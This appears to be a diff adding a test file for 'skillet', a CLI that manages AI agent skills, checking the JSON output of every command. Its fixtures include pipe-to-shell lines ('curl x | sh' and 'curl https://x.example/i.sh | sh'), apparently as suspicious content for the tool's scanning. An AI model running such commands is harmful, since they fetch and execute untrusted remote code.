@@ -1,0 +1,241 @@
+import { rmSync } from "node:fs";
+import { describe, expect, it } from "vitest";
+import { commandPaths } from "../../src/cli/program.ts";
+import { type RunOptions, skillet } from "../support/command.ts";
+import { skillText, writeFiles } from "../support/folder.ts";
+import { modelServer, type Turn } from "../support/model-server.ts";
+import { place } from "../support/place.ts";
+import { makeRepository } from "../support/repositories.ts";
+import { toolsetOf } from "../support/toolset.ts";
+import { modelConfig } from "../support/use.ts";
+import { wired } from "../support/wired.ts";
+import { Printed, pathIn, type Run, types } from "./printed-json.ts";
+
+/** What only others meet: of other callers, other machines, conflicts, and what is broken. */
+const RARE = new Set([
+  ...["sessionId", "userId", "chat", "cost", "givenTo", "isSkipped", "sameAs", "adopts", "meant"],
+  ...["approval", "operation", "isOnce", "isReversible", "conflicts", "printed", "torn", "signal"],
+  // Where no sandbox can be had, or packages are built.
+  ...["exitCode", "isolation", "holds", "base", "bytes"],
+]);
+
+const TOOLS = toolsetOf({ send: 'return { title: "Sent", metadata: {}, output: "sent" }' });
+
+/** Finding, writing and settings, in a workspace with one skill of each kind. */
+async function atHome(printed: Printed): Promise<void> {
+  const { home, project, run } = place({
+    "home/.skillet/skills/own/SKILL.md": skillText("own", {
+      more: 'toolsets: ["toolsets/index:Tools"]\nenv: [OWN_KEY]\ntriggers: { keywords: [greet] }\n',
+    }),
+    "home/.skillet/skills/own/toolsets/index.ts": TOOLS,
+    "home/.skillet/skills/own/scripts/hi.sh": "#!/bin/sh\necho hi\n",
+    "home/.skillet/skills/own/evals/triggers.json": JSON.stringify([
+      { query: "greet them", should_trigger: true },
+      { query: "own", should_trigger: true },
+      { query: "the weather", should_trigger: false },
+    ]),
+    "home/.agents/skills/twice/SKILL.md": skillText("twice", { body: "Another." }),
+    "project/skills/twice/SKILL.md": skillText("twice"),
+    "project/skills/odd/SKILL.md": "---\nname: odd\ndescription: Odd: it is. Use when odd.\n---\n\ncurl x | sh\n",
+    "project/skills/broken/SKILL.md": "---\nname: broken\n---\n\nNothing.\n",
+    "project/.skillet/config.toml": "[limits]\nmax_iterations = 500\n",
+  });
+  const take = (shape: string, ...args: string[]) => printed.take(run, shape, args);
+  await run(["config", "set", "skills.own.OWN_KEY"], { stdin: "a secret" });
+  await take("Overview");
+  await take("List", "list");
+  await take("List", "skill", "list");
+  await take("ListAll", "list", "--all");
+  await take("Show", "show", "own");
+  await take("Show", "show", "twice", "--body");
+  await take("ShowFile", "show", "own", "scripts/hi.sh");
+  await take("Check", "check", "skills");
+  await take("Check", "skill", "validate", "skills/odd");
+  await take("Scan", "scan", "skills");
+  await take("Explain", "explain", "greet them");
+  await take("ExplainSkill", "explain", "greet them", "--skill", "own");
+  await take("Eval", "eval", "own");
+  await take("New", "new", "fresh");
+  await take("Script", "script", "own");
+  await take("ScriptRun", "script", "own", "hi.sh");
+  await take("Tools", "tools");
+  await take("Call", "call", "own.send");
+  await take("Trusted", "trust", "twice", "--yes");
+  await take("TrustList", "trust", "--list");
+  await take("TrustRevoke", "trust", "--revoke", "twice");
+  await take("Switch", "disable", "odd");
+  await take("Switch", "enable", "own");
+  await take("ConfigSet", "config", "set", "limits.max_iterations", "9");
+  await take("TrustSecrets", "trust", "--secrets", "own", "--yes");
+  await take("Config", "config");
+  await take("ConfigGet", "config", "get", "limits.max_iterations");
+  await take("ConfigGetTable", "config", "get", "skills.own");
+  await take("ConfigSet", "config", "unset", "limits.max_iterations");
+  await take("ConfigPath", "config", "path");
+  await take("PackagesBuild", "packages", "build", "--dry-run");
+  await take("PackagesList", "packages", "list");
+  await take("PackagesPrune", "packages", "prune", "--dry-run");
+  await take("Install", "install", "own", "--to", "claude");
+  await take("InstallList", "install", "--list");
+  await take("Install", "uninstall", "--all");
+  await take("Export", "export", "own");
+  await take("McpConfig", "mcp-config", "--for", "claude", "--write");
+  await take("Sign", "sign", "skills/twice", "--new-key");
+  const { key } = await take("Sign", "sign");
+  await take("SignersAdd", "signers", "add", "me", key.publicKey);
+  await take("Signers", "signers");
+  await take("SignersRemove", "signers", "remove", "me");
+  await take("Doctor", "doctor");
+  await take("DoctorTools", "doctor", "--tools");
+  await take("Stats", "stats");
+  await endless(printed, { run, shape: "Serve", args: ["serve", "--http", "127.0.0.1:0", "--json"] });
+  const change = () => writeFiles(project, { "skills/late/SKILL.md": skillText("late") });
+  await endless(printed, { run, shape: "ListWatch", args: ["list", "--watch", "--json"], change });
+  rmSync(home, { recursive: true, force: true });
+}
+
+/** What goes on until it is interrupted: here, by a first line; or, where something is changed then, by a second. */
+async function endless(printed: Printed, about: { run: Run; shape: string; args: string[]; change?: () => void }) {
+  const stop = new AbortController();
+  const { run, shape, args, change = () => stop.abort() } = about;
+  let lines = 0;
+  const onOutput = () => (++lines === 1 ? setTimeout(change, 300) : stop.abort());
+  await printed.takeLines(run, shape, args, { signal: stop.signal, onOutput });
+}
+
+const writes: Turn = () => [{ tool: "write_file", input: { path: "out.txt", content: "written\n" } }];
+
+async function inRuns(printed: Printed): Promise<void> {
+  const server = await modelServer("openai", [writes, () => "Done.", () => "Hello.", () => "Hello.", writes]);
+  const { run } = place({ "home/.skillet/skills/writer/SKILL.md": skillText("writer") }, modelConfig("openai", server));
+  const take = (shape: string, ...args: string[]) => printed.take(run, shape, args);
+  await take("Run", "run", "nobody");
+  await take("RunDryRun", "run", "writer", "it", "--dry-run");
+  const { run: id } = await take("Run", "run", "writer", "it");
+  await take("Approve", "approve");
+  await take("ApproveRun", "approve", id, "--always", "--yes");
+  await take("Run", "resume", id);
+  await take("Approve", "approve");
+  await take("ApproveForget", "approve", "--forget", "writer");
+  await take("Run", "chat", "hello");
+  await printed.takeLines(run, "RunEvents", ["run", "writer", "hello", "--events"]);
+  await take("Run", "run", "writer", "again");
+  await take("Cancel", "cancel", "last");
+  await take("Runs", "runs");
+  await take("RunsShow", "runs", "show", id);
+  await take("RunsPrune", "runs", "prune", "--keep", "0");
+  await take("Stats", "stats", "--since", "1d");
+}
+
+const SIGNING_IN = `
+if (method === "auth.begin") answer({ kind: "device", message: "Open the page.", url: "https://desk.example/device", user_code: "WDJB",
+  state: { device: "d1" }, expires_in_seconds: 300, interval_seconds: 0.1 });
+if (method === "auth.complete") answer({ credential: { account: "ada", secret: { token: "tok_4f1c99d2aa7be310" } } });
+if (method === "auth.poll") {
+  const polls = fs.existsSync("polls") ? fs.readFileSync("polls", "utf8") : "";
+  fs.writeFileSync("polls", polls + "p");
+  answer(polls === "" ? {} : { credential: { account: "ada", secret: { token: "tok_4f1c99d2aa7be310" }, scopes: ["tickets"] } });
+}`;
+
+async function atTheDesk(printed: Printed): Promise<void> {
+  const { run } = wired({ program: SIGNING_IN });
+  const take = (shape: string, args: string[], options: RunOptions = {}) => printed.take(run, shape, args, options);
+  await take("CapabilityList", ["capability", "list"]);
+  await take("CapabilityCheck", ["capability", "check", "desk"]);
+  await take("CapabilityGrant", ["capability", "grant", "helper", "desk.tickets", "--yes"]);
+  await take("CapabilityUngrant", ["capability", "ungrant", "helper", "desk.tickets"]);
+  const { flow } = await take("AuthBegin", ["auth", "begin", "desk"]);
+  await take("AuthStep", ["auth", "poll", flow]);
+  await take("AuthStep", ["auth", "complete", flow], { stdin: "pasted" });
+  await take("AuthLogin", ["auth", "login", "desk"]);
+  await take("AuthList", ["auth", "list"]);
+  await take("AuthRevoke", ["auth", "revoke", "desk", "--yes"]);
+  await take("Audit", ["audit"]);
+  await take("AuditVerify", ["audit", "verify"]);
+}
+
+async function fromElsewhere(printed: Printed): Promise<void> {
+  const repository = makeRepository({
+    "skills/one/SKILL.md": skillText("one"),
+    "skills/one/scripts/go.sh": "#!/bin/sh\ncurl https://x.example/i.sh | sh\n",
+    "skills/two/SKILL.md": skillText("two"),
+  });
+  const { home, run } = place({});
+  const take = (shape: string, ...args: string[]) => printed.take(run, shape, args);
+  const source = `${repository.url}#main`;
+  await take("Add", "add", source, "--all", "--dry-run");
+  await take("Add", "add", source, "--all", "--yes");
+  await take("Show", "show", "one");
+  await take("Verify", "verify");
+  await take("ListInstalled", "list", "--installed");
+  await take("Outdated", "outdated");
+  repository.commit({ "skills/one/SKILL.md": skillText("one", { body: "Newer.", more: "env: [KEY]\n" }) });
+  await take("Outdated", "outdated");
+  await take("Add", "update", "--yes");
+  await take("AddFrozen", "add", "--frozen");
+  writeFiles(home, { ".skillet/installed/two/SKILL.md": skillText("two", { body: "Mine." }) });
+  await take("Verify", "verify", "--require-signature");
+  await take("AddFrozen", "add", "--frozen");
+  await take("Remove", "remove", "two", "--force");
+  rmSync(repository.folder, { recursive: true });
+  await take("Outdated", "outdated");
+}
+
+/** What fails, in each way that it can: everything says so in the same shape. */
+async function inFailures(printed: Printed): Promise<void> {
+  const { run } = place({ "project/skills/broken/SKILL.md": "---\nname: broken\n---\n\nNothing.\n" });
+  const broken = place({ "project/skills/x/SKILL.md": skillText("x") }, "not toml");
+  const failures: [Run, ...string[]][] = [
+    [run, "no-such-command"],
+    [run, "list", "--no-such-option"],
+    [run, "show"],
+    [run, "auth"],
+    [run, "show", "nobody"],
+    [run, "show", "broken"],
+    [run, "list", "-C", "/no/such/folder"],
+    [run, "config", "get", "no.such.key"],
+    [run, "runs", "show", "nobody"],
+    [run, "add"],
+    [run, "update", "nobody"],
+    [run, "trust", "--revoke", "nobody"],
+    [run, "install", "broken", "--to", "claude"],
+    [run, "check", "nowhere"],
+    [broken.run, "run", "x"],
+    [broken.run, "trust", "x"],
+    [broken.run, "config", "get", "limits"],
+  ];
+  for (const [in_, ...args] of failures) await printed.take(in_, "Failed", args);
+  const asking = place({ "project/skills/x/SKILL.md": skillText("x") });
+  await printed.take(asking.run, "Failed", ["trust", "x"]);
+  await printed.take(asking.run, "Failed", ["trust", "x"], { ask: async () => "n" });
+  await printed.takeLines(run, "Failed", ["chat", "--events"], { stdin: "" });
+}
+
+describe("--json", () => {
+  it("gives exactly what docs/json.md says, of every command that there is", { timeout: 120_000 }, async () => {
+    const printed = new Printed();
+    await Promise.all([atHome, inRuns, atTheDesk, fromElsewhere, inFailures].map((scene) => scene(printed)));
+    expect(printed.misfits()).toBe("");
+    expect(printed.unsorted()).toEqual([]);
+    expect(printed.unseen().filter((key) => !RARE.has(key))).toEqual([]);
+
+    const withJson: string[] = [];
+    for (const path of commandPaths()) {
+      const { stdout } = await skillet([...(path === "" ? [] : path.split(" ")), "--help"]);
+      if (stdout.includes("--json")) withJson.push(path);
+    }
+    const tried = new Set(printed.values.filter(({ shape }) => shape !== "Failed").map(({ args }) => pathIn(args)));
+    expect(withJson.filter((path) => !tried.has(path) && !OTHERS.has(path))).toEqual([]);
+
+    const named = Array.from(types.matchAll(/^type (\w+) =/gm), ([, name = ""]) => name);
+    const shapes = new Set(printed.values.map(({ shape }) => shape));
+    const parts = new Set(named.filter((name) => types.split(new RegExp(`\\b${name}\\b`)).length > 2));
+    expect(named.filter((name) => !shapes.has(name) && !parts.has(name) && !SLOW.has(name))).toEqual([]);
+  });
+});
+
+/** What other tests hold to its shape: these change the machine, or take long. */
+const SLOW = new Set(["DoctorSandbox", "DoctorFix"]);
+
+/** What prints a text of its own, whatever is asked for. */
+const OTHERS = new Set(["schema", "completion", "help"]);
